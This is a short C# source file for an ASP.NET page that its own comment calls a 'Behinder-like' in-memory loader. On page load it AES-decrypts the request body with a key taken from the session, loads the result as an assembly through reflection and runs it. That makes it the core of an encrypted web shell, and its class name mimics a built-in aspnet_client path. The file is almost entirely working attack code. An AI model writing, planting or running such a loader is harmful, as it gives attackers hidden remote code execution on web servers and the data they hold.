// A compiled in-memory loader page (Behinder-like): the request body decrypted and loaded.
namespace ASP {
    public class aspnet_client_x_aspx : System.Web.UI.Page {
        protected void Page_Load(object sender, System.EventArgs e) {
            byte[] k = System.Text.Encoding.Default.GetBytes((string)Session["k"]);
            byte[] c = Request.BinaryRead(Request.ContentLength);
            var aes = new System.Security.Cryptography.RijndaelManaged();
            byte[] plain = aes.CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length);
            System.Reflection.Assembly.Load(plain).CreateInstance("U").Equals(this);
        }
    }
}
